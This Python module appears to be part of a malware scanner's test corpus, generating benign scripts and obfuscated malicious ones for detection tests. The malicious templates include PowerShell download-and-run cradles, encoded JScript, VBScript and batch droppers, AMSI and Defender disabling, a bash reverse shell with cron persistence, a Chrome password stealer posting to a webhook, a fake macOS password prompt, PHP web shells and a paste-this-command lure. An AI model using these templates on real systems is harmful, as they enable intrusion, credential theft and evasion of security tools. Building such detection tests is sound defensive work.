"""Scripts for script hosts and shells, in the dress in which droppers, loaders and thieves arrive."""

from __future__ import annotations

from collections.abc import Callable

from app.engine.model import Verdict
from tests.corpus.payloads import DOWNLOAD, HTTP, PS, STREAM, WSH
from tests.corpus.registry import technique
from tests.corpus.sample import Draw, File, b64, encoded
from tests.unit.engine.programs import windows
from tests.unit.engine.test_script import encoded as host_encoded

_HARMLESS = {
    "js": "var total = 0;\nfor (var i = 0; i < 10; i++) { total += i; }\nWScript.Echo('{w} ' + total);\n",
    "vbs": 'Dim total\nFor i = 1 To 10\n    total = total + i\nNext\nMsgBox "{w} " & total\n',
    "wsf": "<job id='{w}'><script language='VBScript'>MsgBox \"{w}\"</script></job>\n",
    "bat": "@echo off\r\nmkdir D:\\Backup\\{w}\r\nxcopy C:\\Data\\*.xlsx D:\\Backup\\{w} /s /y\r\npause\r\n",
    "ps1": "Get-ChildItem C:\\Data -Filter *.csv | Sort-Object Length | Export-Csv C:\\Data\\{w}.txt\n",
    "sct": "<scriptlet><public/><script language='JScript'>var {w} = 1;</script></scriptlet>",
    "sh": '#!/bin/sh\nset -e\nfor f in *.log; do gzip "$f"; done\necho {w}\n',
    "py": "import csv\n\nwith open('{w}.csv') as file:\n    print(sum(float(row[1]) for row in csv.reader(file)))\n",
    "applescript": 'tell application "Finder"\n    activate\n    display dialog "{w}"\nend tell\n',
    "php": "<?php\n$total = array_sum(array_column($rows, 'net'));\necho htmlspecialchars('{w} ' . $total);\n",
}


def _script(name: str, ending: str, write: Callable[[Draw], str], also: tuple[str, ...] = ()) -> None:
    def make(draw: Draw, harmful: bool) -> File:
        text = write(draw) if harmful else _HARMLESS[ending].replace("{w}", draw.word())
        return File(f"{draw.stem()}.{draw.one(ending, ending, *also)}", text.encode())

    technique(f"script.{name}", most=Verdict.RESTRICTED)(make)


def cradle(draw: Draw) -> str:
    """Return a line of PowerShell that runs what it fetches."""
    url = draw.url(draw.one("ps1", "txt", "jpg"))
    return draw.one(
        f"IEX (New-Object Net.WebClient).{DOWNLOAD}('{url}')",
        f"$w=New-Object System.Net.WebClient;$w.Headers.Add('user-agent','x');&('i'+'ex')($w.{DOWNLOAD}('{url}'))",
        f"iwr -useb {url}|iex",
        f"$p=$env:TEMP+'\\{draw.word()}.exe';(New-Object Net.WebClient).DownloadFile('{url}',$p);Start-Process $p",
    )


def _jscript(draw: Draw) -> str:
    """A download spread over an array of turned-around texts."""
    words = [HTTP, STREAM, WSH, draw.url("exe"), "GET", "%TEMP%", f"\\{draw.word()}.exe"]
    a, f = draw.name(), draw.name()
    table = ",".join(f"'{word[::-1]}'".replace("\\", "\\\\") for word in words)
    return (
        f"// {draw.prose(30)}\nvar {a}=[{table}];\nfunction {f}(i){{return {a}[i].split('').reverse().join('');}}\n"
        f"var x=new ActiveXObject({f}(0));x.open({f}(4),{f}(3),0);x.send();\n"
        f"var s=new ActiveXObject({f}(1));s.Type=1;s.Open();s.Write(x.responseBody);\n"
        f"var h=new ActiveXObject({f}(2)),p=h.ExpandEnvironmentStrings({f}(5))+{f}(6);s.SaveToFile(p,2);h.Run(p,0);\n"
    )


def _jscript_escaped(draw: Draw) -> str:
    """Names in escapes and pieces, code behind ``eval``, and much that does nothing."""
    junk = "".join(f"var {draw.name()}='{draw.word(6)}';\n" for _ in range(40))
    escaped = "".join(f"\\x{ord(letter):02x}" for letter in WSH)
    command = "'+'".join(draw.pieces(f"cmd /c {PS} -w hidden -e {encoded(cradle(draw))}", 40))
    run = f"(new q('{escaped}'))['R'+'un']('{command}',0,false);"
    return f"{junk}try{{var q=this['Active'+'XObject'];{run}}}catch(e){{}}\n{junk}"


def _vbscript(draw: Draw) -> str:
    """A command by letters and shifts, among comments."""
    command, shift = f"{PS} -nop -w hidden -c {cradle(draw)}", draw.rng.randrange(2, 40)
    a, b = draw.name(), draw.name()
    numbers = " ".join(str(ord(letter) + shift) for letter in command)
    return (
        f'\' {draw.prose(12)}\n{a} = Split("{numbers}", " ")\nFor Each n In {a}\n    {b} = {b} & Chr(CInt(n) - '
        f"{shift})\n"
        f'Next\nCreateObject("WScr" & "ipt.Sh" & "ell").Run {b}, 0, False\n'
    )


def _vbscript_download(draw: Draw) -> str:
    a, b = draw.name(), draw.name()
    return (
        f'On Error Resume Next\nSet {a} = CreateObject("WinHttp.WinHttpRequest.5.1")\n{a}.Open "GET", '
        f'"{draw.url("exe")}"\n'
        f'{a}.Send\nSet {b} = CreateObject("{STREAM}")\n{b}.Open: {b}.Type = 1: {b}.Write {a}.ResponseBody\n'
        f'{b}.SaveToFile "C:\\Users\\Public\\{draw.word()}.exe", 2\n'
        f'CreateObject("Shell.Application").ShellExecute "C:\\Users\\Public\\{draw.word()}.exe"\n'
    )


def _job(draw: Draw) -> str:
    code = draw.one(
        f"<script language='JScript'>new ActiveXObject('{WSH}').Run('{PS} -w hidden -e {encoded(cradle(draw))}',"
        f"0)</script>",
        f'<script language=\'VBScript\'>CreateObject("{WSH}").Run "mshta {draw.url("hta")}",0</script>',
    )
    return f"<?xml version='1.0'?><package><job id='{draw.word()}'>{code}</job></package>"


def _batch(draw: Draw) -> str:
    hide = 'if not defined x set x=1& start /min cmd /c "%~f0"& exit'
    return f'@echo off\r\n{hide}\r\n{PS} -w hidden -c "{cradle(draw)}"\r\n'


def _batch_letters(draw: Draw) -> str:
    """The alphabet in a variable, and each letter of the command cut out of it."""
    letters = list("abcdefghijklmnopqrstuvwxyz0123456789 -:/.\\")
    draw.rng.shuffle(letters)
    table = "".join(letters)
    command = f"{PS} -w hidden iwr {draw.url('exe')} -o c:\\users\\public\\{draw.word()}.exe"
    v = draw.word(2)
    cut = "".join(f"%{v}:~{table.index(letter)},1%" if letter in table else letter for letter in command)
    return f'@echo off\r\nset "{v}={table}"\r\n{cut}\r\n'


def _batch_program(draw: Draw) -> str:
    """A program behind the script, decoded by a tool of Windows."""
    data = b64(windows({"KERNEL32.dll": ["WinExec"]}, overlay=draw.noise(20, 90)))
    rows = "\r\n".join(data[at : at + 64] for at in range(0, len(data), 64))
    name = draw.word()
    return (
        f'@echo off\r\ncertutil -f -decode "%~f0" "%TEMP%\\{name}.exe" >nul\r\nstart "" '
        f'"%TEMP%\\{name}.exe"\r\nexit /b\r\n'
        f"-----BEGIN CERTIFICATE-----\r\n{rows}\r\n-----END CERTIFICATE-----\r\n"
    )


def _powershell(draw: Draw) -> str:
    return f"# {draw.prose(8)}\n$ErrorActionPreference = 'SilentlyContinue'\n{cradle(draw)}\n"


def _powershell_strings(draw: Draw) -> str:
    """Formats, joins, ticks and mixed cases."""
    code = cradle(draw)
    numbers = ",".join(str(ord(letter) ^ 37) for letter in code)
    return draw.one(
        f"$x=[char[]]({numbers})|%{{[char]([int]$_ -bxor 37)}};&(\"{{1}}{{0}}\" -f 'X','IE') (-join $x)\n",
        f"$k='{b64(code)}';.('i'+'e'+'x')([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($k)))\n",
        f"{draw.cased('invoke-expression')} ('{code[::-1]}'[-1..-{len(code)}] -join '')\n".replace("''", "'"),
        f"sal a N`ew-Ob`ject;(a IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::"
        f"FromBase64String('{b64(draw.noise(90, 200))}'),"
        f"[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()|iex\n",
    )


def _powershell_memory(draw: Draw) -> str:
    data = b64(windows(dotnet=True)[:900])
    return (
        f"$b='{data}'\n$a=[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b))\n"
        f"$a.EntryPoint.Invoke($null,(,[string[]]@('{draw.word()}')))\n"
    )


def _powershell_disarms(draw: Draw) -> str:
    return (
        "Add-MpPreference -ExclusionPath 'C:\\'\nSet-MpPreference -DisableRealtimeMonitoring $true -Force\n"
        f"[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUt'+'ils').GetField('am'+'siInitFailed','NonPublic,"
        f"Static').SetValue($null,$true)\n{cradle(draw)}\n"
    )


def _scriptlet(draw: Draw) -> str:
    run = f"new ActiveXObject('{WSH}').Run('{PS} -w hidden -e {encoded(cradle(draw))}')"
    return (
        f"<?XML version='1.0'?><scriptlet><registration progid='{draw.word()}' "
        f"classid='{{F0001111-0000-0000-0000-0000FEEDACDC}}'>"
        f"<script language='JScript'><![CDATA[ {run}; ]]></script></registration></scriptlet>"
    )


def _shell(draw: Draw) -> str:
    url, place = draw.url(), f"/tmp/.{draw.word()}"
    return "#!/bin/bash\n" + draw.one(
        f"(curl -fsSL {url} || wget -qO- {url}) | bash\n",
        f'wget -q {url} -O {place}; chmod 777 {place}; nohup {place} >/dev/null 2>&1 &\nrm -f -- "$0"\n',
        f"echo {b64(f'curl -s {url} | sh')} | base64 -d | sh\n",
        f"(crontab -l; echo '* * * * * curl -s {url} | sh') | crontab -\nexec 5<>/dev/tcp/{draw.host()}/4444; "
        f"sh <&5 >&5 2>&5\n",
    )


def _python(draw: Draw) -> str:
    url = draw.url()
    return draw.one(
        f"import base64, zlib\nexec(base64.b64decode('{b64(f'import os;os.system(chr(99)+{url!r})')}'))\n",
        f"import urllib.request\nexec(urllib.request.urlopen('{url}').read().decode())\n",
        f"import os, subprocess, urllib.request\np = os.path.join(os.environ['TEMP'], '{draw.word()}.exe')\n"
        f"urllib.request.urlretrieve('{url}.exe', p)\nsubprocess.Popen(p, creationflags=0x08000000)\n",
        "import sqlite3, win32crypt, requests, os\nfor p in (r'Google\\Chrome\\User Data\\Default\\Login Data',):\n"
        "    rows = sqlite3.connect(os.environ['LOCALAPPDATA'] + p).execute('select password_value from logins')\n"
        "    out = [win32crypt.CryptUnprotectData(r[0])[1] for r in rows]\n"
        f"requests.post('https://discord.com/api/' + 'webhooks/{draw.rng.randrange(10**9)}/x', "
        f"json={{'content': str(out)}})\n",
    )


def _apple(draw: Draw) -> str:
    """A prompt for the password of the Mac, and what is fetched with it."""
    return (
        'set p to text returned of (display dialog "macOS needs your password to continue" default answer "" '
        "with hidden answer with icon caution)\n"
        f'do shell script "echo " & quoted form of p & " | sudo -S true; curl -s {draw.url()} | bash"\n'
    )


def _server_page(draw: Draw) -> str:
    a = draw.word(2)
    return draw.one(
        f"<?php @eval(base64_decode($_POST['{a}'])); ?>",
        f"<?php ${a} = 'sys' . 'tem'; ${a}($_GET['{draw.word(1)}']); ?>",
        f"<?php if (isset($_REQUEST['{a}'])) {{ echo shell_exec($_REQUEST['{a}']); die; }} ?>",
    )


for _name, _ending, _write in (
    ("jscript_turned_around", "js", _jscript),
    ("jscript_escaped", "js", _jscript_escaped),
    ("vbscript_letters", "vbs", _vbscript),
    ("vbscript_download", "vbs", _vbscript_download),
    ("windows_script_file", "wsf", _job),
    ("batch_hidden", "bat", _batch),
    ("batch_letters", "bat", _batch_letters),
    ("batch_with_program", "bat", _batch_program),
    ("powershell_download", "ps1", _powershell),
    ("powershell_strings", "ps1", _powershell_strings),
    ("powershell_in_memory", "ps1", _powershell_memory),
    ("powershell_disarms", "ps1", _powershell_disarms),
    ("scriptlet", "sct", _scriptlet),
    ("shell", "sh", _shell),
    ("python", "py", _python),
    ("apple_password", "applescript", _apple),
    ("server_page", "php", _server_page),
):
    _script(_name, _ending, _write, ("cmd",) if _ending == "bat" else ())


@technique("script.encoded", most=Verdict.RESTRICTED)
def _encoded(draw: Draw, harmful: bool) -> File:
    """What Microsoft's encoder makes of a script."""
    # Short, because the encoder of the tests looks for each letter.
    text = f'CreateObject("{WSH}").Run "mshta {draw.url()}",0' if harmful else f'MsgBox "{draw.word()}"\n'
    return File(f"{draw.stem()}.vbe", host_encoded(text))


@technique("script.in_wide_letters", most=Verdict.RESTRICTED)
def _wide(draw: Draw, harmful: bool) -> File:
    ending, write = draw.rng.choice((("vbs", _vbscript_download), ("js", _jscript), ("ps1", _powershell)))
    text = write(draw) if harmful else _HARMLESS[ending].replace("{w}", draw.word())
    return File(f"{draw.stem()}.{ending}", text.encode(draw.one("utf-16", "utf-8-sig")))


@technique("script.padded_with_text", most=Verdict.RESTRICTED)
def _padded(draw: Draw, harmful: bool) -> File:
    """A few lines of script among hundreds of comment."""
    lines = [f"' {draw.prose(12)}" for _ in range(draw.rng.randrange(200, 900))]
    code = _vbscript_download(draw) if harmful else _HARMLESS["vbs"].replace("{w}", draw.word())
    lines.insert(draw.rng.randrange(len(lines)), code)
    return File(f"{draw.stem()}.vbs", "\n".join(lines).encode())


@technique("script.bare_powershell_in_a_text", most=Verdict.SUSPICIOUS)
def _text(draw: Draw, harmful: bool) -> File:
    """A command to paste, in a note that asks to do so."""
    line = f"{PS} -w hidden -enc {encoded(cradle(draw))}"
    ask = f"To fix the display of the document press Win+R, paste this line and press Enter:\r\n\r\n{line}\r\n"
    return File(f"{draw.stem()}.txt", (ask if harmful else f"{draw.prose(90)}\r\n").encode())
